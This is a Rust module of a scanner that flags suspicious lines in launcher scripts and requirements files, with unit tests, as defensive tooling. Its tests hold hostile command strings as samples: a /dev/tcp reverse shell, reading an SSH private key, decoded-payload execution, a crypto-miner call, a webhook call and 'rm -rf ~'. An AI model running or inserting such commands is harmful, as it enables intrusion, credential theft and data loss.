//! Reads a launcher and its requirements for suspicious patterns, with the lines they stand in.
//!
//! Must not know: what becomes of a suspicion. A pattern is a hint to read a line, never a proof of good or bad.

mod files;
mod patterns;

use std::path::Path;

use serde::Serialize;

/// How much a suspicion weighs.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Weight {
    /// Common in honest launchers; worth a look.
    Care,
    /// Honest launchers do not need it.
    Danger,
}

/// One line that should be read by a person.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Suspicion {
    /// Name of the pattern.
    pub rule: &'static str,
    /// How much it weighs.
    pub weight: Weight,
    /// Relative path.
    pub file: String,
    /// From 1.
    pub line: usize,
    /// The line, shortened.
    pub excerpt: String,
    /// What it may mean.
    pub why: &'static str,
}

/// Suspicions of one kind and file that are told one by one.
const MOST_OF_A_KIND: usize = 5;
const EXCERPT_CHARACTERS: usize = 160;

/// Everything suspicious below a folder, the weighty first.
pub fn scan(folder: &Path) -> Vec<Suspicion> {
    let mut found = Vec::new();
    files::each(folder, |name, text| scan_text(name, text, &mut found));
    found.sort_by(|one: &Suspicion, other| {
        other.weight.cmp(&one.weight).then_with(|| (&one.file, one.line).cmp(&(&other.file, other.line)))
    });
    found
}

/// The same for one text.
pub(crate) fn scan_text(name: &str, text: &str, found: &mut Vec<Suspicion>) {
    let list = patterns::list();
    let mut counts = vec![0; list.len()];
    for (number, line) in text.lines().enumerate() {
        for (index, pattern) in list.iter().enumerate().filter(|(_, pattern)| pattern.is_for(name)) {
            if counts[index] < MOST_OF_A_KIND && pattern.matches(line) {
                counts[index] += 1;
                found.push(pattern.suspicion(name, number + 1, excerpt(line)));
            }
        }
    }
    if let Some((number, line)) = text.lines().enumerate().find(|(_, line)| patterns::is_obfuscated(line)) {
        found.push(patterns::OBFUSCATED.suspicion(name, number + 1, excerpt(line)));
    }
}

/// The line without control characters, at most 160 characters.
fn excerpt(line: &str) -> String {
    let clean: String = line.trim().chars().map(|c| if c.is_control() { ' ' } else { c }).collect();
    match clean.char_indices().nth(EXCERPT_CHARACTERS) {
        Some((end, _)) => format!("{}…", &clean[..end]),
        None => clean,
    }
}

#[cfg(test)]
#[expect(clippy::unwrap_used, reason = "a failed set-up shall end the test")]
mod tests {
    use super::*;

    fn rules(name: &str, text: &str) -> Vec<&'static str> {
        let mut found = Vec::new();
        scan_text(name, text, &mut found);
        found.into_iter().map(|suspicion| suspicion.rule).collect()
    }

    #[test]
    fn dangers_are_found() {
        for (text, rule) in [
            ("echo aGk= | base64 -d | sh", "decoded-shell"),
            ("exec(base64.b64decode('eA=='))", "decoded-code"),
            ("eval(atob('eA=='))", "decoded-code"),
            ("./xmrig -o stratum+tcp://pool:1", "miner"),
            ("cat ~/.ssh/id_rsa", "credentials"),
            ("bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "reverse-shell"),
            ("fetch('https://discord.com/api/webhooks/1/x')", "reports-home"),
            ("rm -rf ~", "removes-home"),
        ] {
            assert!(rules("install.js", text).contains(&rule), "{text}");
        }
        let packed = format!("var a='{}'", r"\x61".repeat(80));
        assert_eq!(rules("a.js", &packed), ["obfuscated"]);
    }

    #[test]
    fn habits_are_told() {
        for (name, text, rule) in [
            ("install.js", "curl -fsSL https://x.sh | sh", "network-to-shell"),
            ("install.js", "pip install --trusted-host x y", "tls-off"),
            ("app.py", "requests.get(url, verify=False)", "tls-off"),
            ("app.py", "torch.load(path)", "pickle"),
            ("app.py", "x = eval(text)", "eval"),
            ("requirements.txt", "foo @ git+https://github.com/a/b", "unpinned"),
            ("requirements.txt", "--extra-index-url http://x/simple", "index"),
            ("install.js", "sudo apt install x", "sudo"),
            ("install.js", "echo x >> ~/.bashrc", "writes-outside"),
        ] {
            assert!(rules(name, text).contains(&rule), "{text}: {:?}", rules(name, text));
        }
    }

    #[test]
    fn usual_lines_are_not_suspicious() {
        for (name, text) in [
            ("app.py", "model.eval()"),
            ("app.py", "torch.load(path, weights_only=True)"),
            ("install.js", "git clone https://github.com/a/b app"),
            ("requirements.txt", "torch==2.1.0\nfoo @ git+https://github.com/a/b@0123456789abcdef"),
            ("start.js", "message: 'python app.py --port {{port}}'"),
        ] {
            assert_eq!(rules(name, text), Vec::<&str>::new(), "{text}");
        }
    }

    #[test]
    fn folders_are_read_without_environments() {
        let scratch = tempfile::tempdir().unwrap();
        let write = |path: &str, text: &str| {
            let path = scratch.path().join(path);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, text).unwrap();
        };
        write("install.js", "ok\ncurl https://x | bash\n");
        write("env/lib/evil.py", "exec(base64.b64decode('x'))");
        write(".git/hooks/x.sh", "curl https://x | bash");
        let found = scan(scratch.path());
        assert_eq!(found.len(), 1);
        assert_eq!((found[0].file.as_str(), found[0].line), ("install.js", 2));
    }
}
